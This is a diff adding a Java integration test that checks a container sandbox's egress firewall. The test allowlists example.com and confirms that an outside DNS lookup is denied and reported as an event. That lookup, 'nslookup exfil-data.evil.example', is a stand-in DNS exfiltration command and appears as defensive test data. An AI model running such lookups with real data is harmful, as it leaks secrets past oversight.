@@ -5,6 +5,7 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.mino.core.FirewallImage;
 import dev.mino.core.MinoEvent;
 import dev.mino.core.Sandbox;
 import dev.mino.core.SandboxListener;
@@ -17,7 +18,10 @@ import dev.mino.core.testing.DelayingEngineProxy;
 import dev.mino.core.testing.Prerequisites;
 import dev.mino.core.testing.RequiresPodman;
 import dev.mino.core.testing.SandboxFolders;
+import dev.mino.core.testing.TestFirewallImage;
 import dev.mino.core.testing.TestPodman;
+import dev.mino.network.EgressEvent;
+import dev.mino.network.NetworkPolicy;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
@@ -114,6 +118,38 @@ class SandboxEventsIT extends SandboxFolders {
         for (MinoEvent event : events) {
             assertFalse(event.toString().contains(token), "an event holds the token: " + event);
         }
+    }
+
+    @Test
+    void anAllowlistedStartIsToldWithItsFirewallStepAndEachDenialAsATypedEvent() throws Exception {
+        FirewallImage.Pinned pinned = TestFirewallImage.pin(state);
+        List<MinoEvent> events = new CopyOnWriteArrayList<>();
+        try (Sandbox sb = Sandbox.builder().engine(TestPodman.address().uri()).image(TestPodman.BUSYBOX_IMAGE)
+            .project(project).stateDirectory(state).sshAgent(false).listener(SandboxListener.of(events::add))
+            .network(NetworkPolicy.allow("example.com:443")).command("sleep", "60").start()) {
+            // The hostile command: a lookup outside the allowlist, as an exfiltration through DNS would.
+            sb.exec("nslookup", "exfil-data.evil.example");
+            long deadline = System.nanoTime() + Duration.ofSeconds(15).toNanos();
+            while (events.stream().noneMatch(e -> e instanceof MinoEvent.Egress egress && egress.denied())
+                && System.nanoTime() < deadline) {
+                Thread.sleep(50);
+            }
+            MinoEvent.Egress denial = events.stream().filter(MinoEvent.Egress.class::isInstance)
+                .map(MinoEvent.Egress.class::cast).filter(MinoEvent.Egress::denied).findFirst()
+                .orElseThrow(() -> new AssertionError("no denial told: " + events));
+            assertEquals(sb.sessionName(), denial.session());
+            assertEquals("exfil-data.evil.example", ((EgressEvent.NameRefused) denial.event()).name());
+            // The control: the same event is in the handle's own list.
+            assertTrue(sb.egressEvents().contains(denial.event()), sb.egressEvents().toString());
+        } finally {
+            try (PodmanClient podman = TestPodman.newClient()) {
+                TestFirewallImage.remove(podman, pinned);
+            }
+        }
+        List<String> steps = events.stream().filter(MinoEvent.ProgressStep.class::isInstance)
+            .map(MinoEvent.ProgressStep.class::cast).map(s -> s.step() + " " + s.phase()).toList();
+        assertEquals(List.of("FIREWALL STARTED", "FIREWALL FINISHED", "CREATE_CONTAINER STARTED",
+            "CREATE_CONTAINER FINISHED", "START_CONTAINER STARTED", "START_CONTAINER FINISHED"), steps);
     }
 
     /** The exit is told by the thread that saw it, which may come a moment after awaitExit returned. */
